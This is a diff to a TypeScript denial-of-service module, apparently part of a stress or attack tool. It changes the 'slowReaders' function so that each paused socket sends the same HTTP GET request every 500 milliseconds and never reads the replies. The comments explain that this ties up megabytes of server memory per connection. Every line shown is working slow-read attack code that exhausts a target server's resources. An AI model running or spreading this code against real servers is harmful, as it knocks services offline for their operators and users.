@@ -78,7 +78,7 @@ export function slowBodies(target: Target, count: number, options: AttackOptions
   });
 }
 
-/** Readers who ask for a long answer and do not read it. */
+/** Readers who ask for a long answer and do not read it, again and again. */
 export function slowReaders(
   target: Target,
   count: number,
@@ -87,10 +87,11 @@ export function slowReaders(
 ): Attack {
   return keepOpen(target, count, origin(options), (socket) => {
     socket.pause();
-    socket.write(`GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`);
-    // Who does not read does not see that it was cut off: sending tells.
-    const look = setInterval(() => socket.write('x'), 2000);
-    return () => clearInterval(look);
+    const again = () => socket.write(`GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`);
+    again();
+    // The system keeps some megabytes for each. And who does not read learns by sending only that it was cut off.
+    const asking = setInterval(again, 500);
+    return () => clearInterval(asking);
   });
 }
 
